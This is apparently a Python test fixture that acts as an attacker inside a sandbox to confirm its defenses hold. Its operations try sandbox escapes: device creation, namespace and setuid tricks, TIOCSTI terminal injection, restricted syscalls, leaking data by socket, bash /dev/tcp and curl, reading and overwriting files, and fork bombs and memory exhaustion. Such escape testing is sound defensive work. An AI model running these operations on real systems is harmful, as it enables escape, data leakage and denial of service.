"""A test-only attacker executor (stdlib only): what it tries is chosen by its JSON args.

stdin `{"args": {"op": "<name>", ...}}`; stdout one protocol object whose result reports what
the attempt achieved. Every op tries to break out; the tests assert that it could not.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import socket
import stat
import subprocess
import sys
import termios
import time

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000


def attempt(fn):
    """"ok" when `fn` succeeded, else the error's name (e.g. "EPERM")."""
    try:
        fn()
    except OSError as exc:
        return os.strerror(exc.errno) if exc.errno else type(exc).__name__
    return "ok"


def slurp(path):
    with open(path, "rb") as fh:
        return fh.read()


def status():
    text = slurp("/proc/self/status").decode()
    fields = dict(line.split(":", 1) for line in text.splitlines())
    return {k: fields[k].strip() for k in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Uid")}


def op_status(a):
    init_env = attempt(lambda: slurp("/proc/1/environ"))
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    cmdlines = {}
    for pid in pids:
        with contextlib.suppress(OSError):
            cmdlines[pid] = slurp(f"/proc/{pid}/cmdline").decode("utf-8", "replace")
    return {"status": status(), "env": dict(os.environ), "pid": os.getpid(), "pids": pids,
            "cmdlines": cmdlines, "init_environ": init_env, "uid": os.getuid()}


def op_privileges(a):
    libc = ctypes.CDLL(None, use_errno=True)

    def unshare(flag):
        if libc.unshare(flag) != 0:
            return os.strerror(ctypes.get_errno())
        return "ok"

    block = stat.S_IFBLK | 0o600
    return {
        "mknod_tmp": attempt(lambda: os.mknod("/tmp/sda", block, os.makedev(8, 0))),
        "mknod_char": attempt(lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o600,
                                               os.makedev(1, 1))),
        "unshare_user": unshare(CLONE_NEWUSER),
        "unshare_mount": unshare(CLONE_NEWNS),
        "unshare_net": unshare(CLONE_NEWNET),
        "unshare_cmd": run_cmd(["unshare", "-U", "true"]),
        "setuid0": attempt(lambda: os.setuid(0)),
        "chroot": attempt(lambda: os.chroot("/tmp")),
    }


def op_syscalls(a):
    """Kernel interfaces the seccomp filter denies, each with arguments that succeed (or fail
    with another errno) when nothing filters them."""
    libc = ctypes.CDLL(None, use_errno=True)
    nr = a["numbers"]

    def call(name, *args):
        if libc.syscall(nr[name], *args) == -1:
            return os.strerror(ctypes.get_errno())
        return "ok"

    params = ctypes.create_string_buffer(120)
    tried = {
        "tiocsti_own_pty": tiocsti_own_pty(),
        "add_key": call("add_key", b"user", b"metnos", b"v", 1, -2),
        "keyctl": call("keyctl", 0, -2, 0),
        "io_uring_setup": call("io_uring_setup", 1, params),
        "unshare_nothing": call("unshare", 0),
        "setns_bad_fd": call("setns", -1, 0),
    }
    tried["ptrace_traceme"] = call("ptrace", 0, 0, 0, 0)  # last: a traced process must not fork
    return tried


def tiocsti_own_pty():
    """Make a fresh pty the controlling terminal of a new session, then inject into it."""
    master, slave = os.openpty()
    name = os.ttyname(slave)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        fd = os.open(name, os.O_RDWR)  # a session leader opening a tty: it becomes the ctty
        code = 0 if attempt(lambda: fcntl.ioctl(fd, termios.TIOCSTI, b"x")) == "ok" else 1
        os._exit(code)
    _pid, code = os.waitpid(pid, 0)
    os.close(master)
    os.close(slave)
    return "ok" if code == 0 else "denied"


def run_cmd(argv, timeout=5):
    try:
        done = subprocess.run(argv, capture_output=True, timeout=timeout)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return {"rc": None, "err": type(exc).__name__}
    return {"rc": done.returncode, "out": done.stdout.decode("utf-8", "replace")[-300:],
            "err": done.stderr.decode("utf-8", "replace")[-300:]}


def op_network(a):
    port = a["port"]

    def tcp():
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.sendall(b"leak")

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"leak", ("192.0.2.1", 53))

    def abstract():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(a["abstract"])
            s.sendall(b"leak")

    return {
        "tcp": attempt(tcp),
        "udp": attempt(udp),
        "abstract_unix": attempt(abstract),
        "dns": attempt(lambda: socket.getaddrinfo("example.com", 80)),
        "dev_tcp": run_cmd(["bash", "-c", f"echo leak > /dev/tcp/127.0.0.1/{port}"]),
        "curl": run_cmd(["curl", "-s", "-m", "0.5", f"http://127.0.0.1:{port}/"]),
    }


def op_tiocsti(a):
    def inject(fd):
        for ch in a["text"]:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())

    def via_dev_tty():
        fd = os.open("/dev/tty", os.O_RDWR)
        try:
            inject(fd)
        finally:
            os.close(fd)

    tried = {"dev_tty": attempt(via_dev_tty)}
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        tried[f"fd{fd}"] = attempt(lambda fd=fd: inject(fd))
    return tried


def op_read(a):
    out = {}
    for path in a["paths"]:
        try:
            with open(os.path.expanduser(path), "rb") as fh:
                out[path] = fh.read(4096).decode("utf-8", "replace")
        except OSError as exc:
            out[path] = {"error": os.strerror(exc.errno or 0)}
    return {"read": out}


def op_write(a):
    def write(path):
        with open(path, "w") as fh:
            fh.write("pwned")

    return {"write": {p: attempt(lambda p=p: write(p)) for p in a["paths"]}}


def op_listdir(a):
    out = {}
    for path in a["paths"]:
        try:
            out[path] = sorted(os.listdir(path))
        except OSError as exc:
            out[path] = {"error": os.strerror(exc.errno or 0)}
    return {"listdir": out}


def op_orphan(a):
    """Leave a long sleeper behind: double fork, new session, marker in its argv."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = "import time; time.sleep(60)"
            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code, a["marker"]])
        os._exit(0)
    time.sleep(60)
    return {}


def op_bomb(a):
    for _ in range(a["generations"]):
        with contextlib.suppress(OSError):
            os.fork()
    time.sleep(60)
    return {}


def op_memhog(a):
    hog = []
    for _ in range(a["mb"]):
        hog.append(b"x" * (1024 * 1024))
    return {"held_mb": len(hog)}


def op_loop(a):
    while True:
        pass


def main():
    args = json.load(sys.stdin)["args"]
    result = globals()["op_" + args["op"]](args)
    print(json.dumps({"ok": True, "result": result}))


main()
